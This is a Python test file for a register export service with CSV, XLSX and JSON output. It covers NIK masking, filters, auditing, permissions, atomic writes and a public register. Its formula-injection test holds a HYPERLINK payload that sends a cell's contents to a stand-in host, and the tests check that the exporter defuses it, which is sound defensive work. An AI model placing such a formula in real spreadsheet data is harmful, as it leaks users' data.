"""Register export (CSV, XLSX, JSON): columns, filters, masking of personal data, audit, atomic files."""

from __future__ import annotations

import csv
import json
from collections.abc import Callable
from datetime import date, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from app.errors import PermissionDenied, ValidationError
from app.services.context import Actor
from app.services.desk import DeskServices
from app.services.export import COLUMNS, ExportService
from app.services.register_query import RegisterFilter
from db.models import AuditEntry

NIK = "3673054512850012"  # the walk_in fixture's NIK


@pytest.fixture
def out_dir(tmp_path: Path) -> Path:
    folder = tmp_path / "keluar"
    folder.mkdir()
    return folder


@pytest.fixture
def exporter(desk: DeskServices) -> ExportService:
    return ExportService(desk.ctx, desk.query)


@pytest.fixture
def two_requests(
    desk: DeskServices, admin: Actor, clock: Any, walk_in: Callable[..., dict[str, Any]]
) -> list[str]:
    first = desk.register.receive(admin, walk_in())
    clock.now = datetime(2026, 4, 13, 9, 0)
    second = desk.register.receive(
        admin, walk_in(complete=False, information="Daftar penerima bantuan sosial Kelurahan Banjar Agung")
    )
    return [first.number, second.number]


def _audits(desk: DeskServices) -> list[tuple[str, dict[str, Any]]]:
    with desk.ctx.db.reader() as session:
        rows = session.scalars(select(AuditEntry).where(AuditEntry.action == "export"))
        return [(row.username, dict(row.details)) for row in rows]


def test_csv_has_the_register_columns_and_masks_the_nik(
    exporter: ExportService, supervisor: Actor, two_requests: list[str], out_dir: Path
) -> None:
    out = out_dir / "register.csv"
    result = exporter.export(supervisor, out=out)
    assert (result.format, result.rows) == ("csv", 2)
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM, for spreadsheet programs
    text = raw.decode("utf-8-sig")
    assert NIK not in text
    rows = list(csv.DictReader(text.splitlines()))
    assert list(rows[0]) == [header for _, header, _ in COLUMNS]
    assert [r["No. Registrasi"] for r in rows] == two_requests
    assert rows[0]["NIK (disamarkan)"] and rows[0]["NIK (disamarkan)"] != NIK
    assert rows[0]["Tanggal Diterima"] == "2026-03-16 10:00"
    assert "0812" in rows[0]["Nomor Kontak"]  # a supervisor may see the phone number


def test_json_export_with_filters(
    exporter: ExportService, admin: Actor, two_requests: list[str], out_dir: Path
) -> None:
    out = out_dir / "april.json"
    flt = RegisterFilter(date_from=date(2026, 4, 1), date_to=date(2026, 4, 30))
    result = exporter.export(admin, out=out, flt=flt)
    document = json.loads(out.read_text("utf-8"))
    assert result.rows == document["count"] == 1
    assert document["rows"][0]["number"] == two_requests[1]
    assert document["filter"]["from"] == "2026-04-01"
    assert document["exported_by"] == "admin"
    assert NIK not in out.read_text("utf-8")
    by_status = exporter.export(admin, out=out_dir / "s.json", flt=RegisterFilter(statuses=("diproses",)))
    assert by_status.rows == 1


def test_xlsx_export_has_typed_cells(
    exporter: ExportService, admin: Actor, two_requests: list[str], out_dir: Path
) -> None:
    out = out_dir / "register.xlsx"
    assert exporter.export(admin, out=out).rows == 2
    sheet = load_workbook(out).active
    assert sheet is not None
    header = [cell.value for cell in sheet[1]]
    assert header[0] == "No. Registrasi"
    assert sheet.cell(row=2, column=1).value == two_requests[0]
    assert isinstance(sheet.cell(row=2, column=header.index("Tanggal Diterima") + 1).value, datetime)
    assert NIK not in {str(c.value) for row in sheet.iter_rows() for c in row}


def test_export_is_audited_with_its_filter_and_count(
    exporter: ExportService, desk: DeskServices, admin: Actor, two_requests: list[str], out_dir: Path
) -> None:
    exporter.export(admin, out=out_dir / "a.csv", flt=RegisterFilter(statuses=("verifikasi",)))
    entries = _audits(desk)
    assert len(entries) == 1
    username, details = entries[0]
    assert username == "admin"
    assert details["rows"] == 1
    assert details["filter"]["status"] == ["verifikasi"]


def test_officer_may_not_export_and_nothing_is_written(
    exporter: ExportService, desk: DeskServices, officer: Actor, two_requests: list[str], out_dir: Path
) -> None:
    with pytest.raises(PermissionDenied):
        exporter.export(officer, out=out_dir / "a.csv")
    assert list(out_dir.iterdir()) == []
    assert _audits(desk) == []


def test_format_from_suffix_and_refusals(exporter: ExportService, admin: Actor, out_dir: Path) -> None:
    assert exporter.export(admin, out=out_dir / "r.JSON").format == "json"
    assert exporter.export(admin, out=out_dir / "r.dat", fmt="csv").format == "csv"
    with pytest.raises(ValidationError):
        exporter.export(admin, out=out_dir / "r.pdf")
    with pytest.raises(ValidationError):
        exporter.export(admin, out=out_dir / "tidak-ada" / "r.csv")


def test_a_failed_export_leaves_no_file_and_no_audit(
    exporter: ExportService,
    desk: DeskServices,
    admin: Actor,
    two_requests: list[str],
    out_dir: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    out = out_dir / "register.csv"
    out.write_text("lama", encoding="utf-8")

    def broken(*_: object) -> None:
        raise OSError("disk penuh")

    monkeypatch.setattr(ExportService, "_csv", broken)
    with pytest.raises(OSError):
        exporter.export(admin, out=out)
    assert out.read_text(encoding="utf-8") == "lama"
    assert sorted(p.name for p in out_dir.iterdir()) == ["register.csv"]
    assert _audits(desk) == []


def test_overdue_flag_is_exported(
    exporter: ExportService, admin: Actor, two_requests: list[str], clock: Any, out_dir: Path
) -> None:
    clock.now = clock.now + timedelta(days=60)
    out = out_dir / "r.json"
    exporter.export(admin, out=out)
    assert {r["overdue"] for r in json.loads(out.read_text("utf-8"))["rows"]} == {"Ya"}


# --- formula injection and the public register -----------------------------------------------------------

FORMULA = '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")'


@pytest.fixture
def formula_request(desk: DeskServices, admin: Actor, walk_in: Callable[..., dict[str, Any]]) -> str:
    return desk.register.receive(
        admin,
        walk_in(information=FORMULA, purpose="+62 tugas kuliah", requester={"occupation": "@pengusaha"}),
    ).number


def test_csv_and_xlsx_neutralise_cells_a_spreadsheet_would_run_as_formulas(
    exporter: ExportService, supervisor: Actor, formula_request: str, out_dir: Path
) -> None:
    exporter.export(supervisor, out=out_dir / "r.csv")
    with open(out_dir / "r.csv", encoding="utf-8-sig", newline="") as handle:
        (row,) = list(csv.DictReader(handle))
    assert row["Informasi yang Diminta"] == "'" + FORMULA
    assert row["Tujuan Penggunaan Informasi"] == "'+62 tugas kuliah"
    assert row["Pekerjaan"] == "'@pengusaha"
    exporter.export(supervisor, out=out_dir / "r.xlsx")
    sheet = load_workbook(out_dir / "r.xlsx").active
    assert sheet is not None
    headers = [c.value for c in sheet[1]]
    cell = sheet.cell(row=2, column=headers.index("Informasi yang Diminta") + 1)
    assert cell.data_type == "s" and cell.value == "'" + FORMULA


def test_public_register_leaves_out_every_personal_field(
    desk: DeskServices, exporter: ExportService, supervisor: Actor, formula_request: str, out_dir: Path
) -> None:
    for fmt in ("csv", "xlsx"):
        out = out_dir / f"publik.{fmt}"
        result = exporter.export(supervisor, out=out, public=True)
        assert result.rows == 1
        if fmt == "csv":
            raw = out.read_text(encoding="utf-8-sig")
            with open(out, encoding="utf-8-sig", newline="") as handle:
                (row,) = list(csv.DictReader(handle))
        else:
            sheet = load_workbook(out).active
            assert sheet is not None
            values = list(sheet.iter_rows(values_only=True))
            row = dict(zip(values[0], values[1], strict=True))
            raw = " ".join(str(v) for line in values for v in line)
        for secret in ("Siti Aminah", "3673", "0812", "3456", "siti.aminah", "Bhayangkara"):
            assert secret not in raw
        assert not {"Nama", "Alamat", "Nomor Kontak", "NIK (disamarkan)"} & set(row)
        assert row["No. Registrasi"] == formula_request
        assert row["Informasi yang Diminta"] == "'" + FORMULA
        assert row["Jenis Pemohon"] == "Perorangan"  # the label, never the code
    with pytest.raises(ValidationError, match="CSV atau XLSX"):
        exporter.export(supervisor, out=out_dir / "publik.json", public=True)
    with desk.ctx.db.reader() as session:
        actions = [
            a.action for a in session.scalars(select(AuditEntry).where(AuditEntry.entity == "register"))
        ]
    assert actions.count("export_public") == 2
